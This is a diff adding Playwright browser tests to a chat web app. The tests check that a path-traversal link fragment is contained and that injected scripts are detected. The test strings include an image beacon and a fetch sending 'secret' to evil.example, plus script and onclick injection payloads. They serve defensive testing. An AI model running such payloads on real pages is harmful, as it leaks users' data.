@@ -1,6 +1,8 @@
 """What a model or a tool says is only text: nothing runs, is fetched or leaks, and no key is ever sent."""
 
 import json
+import re
+from importlib.resources import files
 from pathlib import Path
 from urllib.parse import urlsplit
 
@@ -9,6 +11,7 @@ from playwright.sync_api import Browser, Page, Response, expect
 
 from browser.conftest import Watched, new_context, read_json
 from browser.host import call, hosted
+from treadle.server.pages import JOINED
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
@@ -102,6 +105,68 @@ def test_hostile_text_is_only_text(browser: Browser, tmp_path: Path, place: str)
         expect(page.locator(".turns").locator(MADE)).to_have_count(0)
         context.close()
         assert (seen.complaints, seen.strays) == ([], [])
+
+
+def test_a_link_leads_to_a_chat_and_nowhere_else(browser: Browser, tmp_path: Path) -> None:
+    """What stands behind the # may be somebody's trap: nothing is read or asked but a chat, and it is told kindly."""
+    with hosted(tmp_path, script=_turn("So.")) as server:
+        context = new_context(browser)
+        seen = Watched(context.new_page(), server)
+        paths: list[str] = []
+        seen.page.on("request", lambda request: paths.append(f"{request.method} {urlsplit(request.url).path}"))
+        page = seen.page
+        page.goto(f"{server.url}/#../runs/run_1/cancel?x=")
+        expect(page.get_by_role("alert")).to_contain_text("There is nothing at GET")
+        seen.ask("go")
+        expect(page.get_by_role("alert").last).to_contain_text("There is nothing at POST")
+        chats = [path for path in paths if "run_1" in path]
+        assert {path.partition(" ")[0] for path in chats} == {"GET", "POST"}
+        assert all(path.partition(" ")[2].startswith("/treadle/v1/sessions/..%2Fruns%2Frun_1") for path in chats)
+        context.close()
+        assert seen.strays == []
+
+
+def test_whoever_watches_would_see_it(browser: Browser, tmp_path: Path) -> None:
+    """What the other tests look for is noticed where it is done on purpose: a script, a picture, a stray request."""
+    with hosted(tmp_path) as server:
+        context = new_context(browser)
+        seen = Watched(context.new_page(), server)
+        _violations(seen.page)
+        page = seen.open()
+        expect(page.get_by_role("main")).to_be_visible()
+        assert (seen.complaints, seen.strays) == ([], [])
+        for harm in (
+            "const p = new Image(); p.src = 'https://evil.example/?d=secret'; document.body.append(p)",
+            "const s = document.createElement('script'); s.text = 'alert(1)'; document.body.append(s)",
+            "document.body.innerHTML = '<b>x</b>'",
+            "fetch('https://evil.example/').catch(() => {})",
+            "document.body.setAttribute('onclick', 'alert(1)')",
+        ):
+            before = len(seen.complaints)
+            page.evaluate(f"() => {{ try {{ {harm} }} catch (error) {{ console.error(String(error)) }} }}")
+            expect(page.locator("body")).to_be_attached()
+            page.evaluate("() => new Promise((done) => setTimeout(done))")
+            assert len(seen.complaints) > before, harm
+        assert "https://evil.example/?d=secret" in seen.strays
+        context.close()
+
+
+def test_no_script_hides_a_name_of_the_browser(browser: Browser, tmp_path: Path) -> None:
+    """The modules of a page share one scope: a name of theirs must not stand for something else in another module."""
+    web = Path(str(files("treadle.server") / "web"))
+    tops = r"^(?:export )?(?:async )?(?:function\*?|class|const|let) (\w+)"
+    names = {
+        name
+        for modules in JOINED.values()
+        for each in modules
+        for name in re.findall(tops, (web / each).read_text(), re.M)
+    }
+    assert {"MarkdownView", "usePages", "getJson"} < names
+    with hosted(tmp_path) as server:
+        context = new_context(browser)
+        page = Watched(context.new_page(), server).open()
+        assert page.evaluate("(names) => names.filter((name) => name in window)", sorted(names)) == []
+        context.close()
 
 
 def test_pictures_become_links_that_nobody_follows(browser: Browser, tmp_path: Path) -> None:
